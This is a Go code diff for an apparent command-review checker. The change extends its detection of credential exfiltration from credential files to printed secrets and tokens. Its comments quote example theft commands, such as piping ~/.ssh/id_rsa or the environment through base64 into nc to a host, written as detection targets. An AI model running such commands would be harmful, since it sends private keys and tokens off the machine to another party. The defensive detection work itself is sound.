@@ -494,7 +494,7 @@ func SecretFile(p string) bool {
 }
 
 // SendsSecretReason says why sending a credential file away needs review.
-const SendsSecretReason = "sends a credential file (a private key, cloud, cluster or registry credentials, an environment file, password hashes) off this machine: once the other side has read it, it cannot be taken back, and whether that side should have it is not in the input"
+const SendsSecretReason = "sends credentials (a private key, cloud, cluster or registry credentials, an environment file, password hashes, a secret or token a command printed) off this machine: once the other side has read it, it cannot be taken back, and whether that side should have it is not in the input"
 
 // SecretIs holds when an operand after skip names credentials
 // (SecretFile).
@@ -506,7 +506,7 @@ func SecretIs(skip int) Cond {
 // (SecretOnStdin): nc host 80 < ~/.aws/credentials, cat ~/.ssh/id_rsa |
 // base64 | nc host 80, env | nc host 80.
 func SecretStdin() Cond {
-	return Func("stdin carries a credential file", func(f Facts) Result {
+	return Func("stdin carries credentials", func(f Facts) Result {
 		if ev, ok := SecretOnStdin(f.M.Command); ok {
 			return Result{Truth: True, Evidence: []model.Evidence{ev}}
 		}
@@ -516,20 +516,39 @@ func SecretStdin() Cond {
 
 // SecretOnStdin reports whether c's stdin carries credentials, with the
 // evidence: a redirection from a credential file, or a pipe from commands
-// that name one or print the environment (env, printenv).
+// that name one, print the environment (env, printenv) or print a secret
+// (secretPrinters: kubectl get secret -o yaml, gcloud auth
+// print-access-token).
 func SecretOnStdin(c *model.Command) (model.Evidence, bool) {
 	if file, ok := strings.CutPrefix(c.StdinFrom, "file "); ok && SecretFile(Resolve(model.Arg{Value: strings.Trim(file, `'"`)}, c)) {
 		return model.Evidence{Key: "stdin", Value: file, Present: true, Description: "a credential file"}, true
 	}
-	for _, a := range c.PipedArgs {
-		switch {
-		case SecretFile(a.Value):
-			return model.Evidence{Key: "piped from", Value: a.Value, Present: true, Description: "a credential file"}, true
-		case a.Value == "env" || a.Value == "printenv":
-			return model.Evidence{Key: "piped from", Value: a.Value, Present: true, Description: "the environment, where tokens and keys are often kept"}, true
+	for _, words := range c.Piped {
+		for _, a := range words {
+			switch {
+			case SecretFile(a.Value):
+				return model.Evidence{Key: "piped from", Value: a.Value, Present: true, Description: "a credential file"}, true
+			case a.Value == "env" || a.Value == "printenv":
+				return model.Evidence{Key: "piped from", Value: a.Value, Present: true, Description: "the environment, where tokens and keys are often kept"}, true
+			}
+		}
+		if what, ok := printedSecret(words); ok {
+			return model.Evidence{Key: "piped from", Value: joinWords(words), Present: true, Description: what}, true
 		}
 	}
 	return model.Evidence{}, false
+}
+
+// joinWords spells a command's words back as one line.
+func joinWords(words []model.Arg) string {
+	var b strings.Builder
+	for i, a := range words {
+		if i > 0 {
+			b.WriteByte(' ')
+		}
+		b.WriteString(a.Value)
+	}
+	return b.String()
 }
 
 // EnvFile reports whether p is an environment file: .env or .env.NAME,
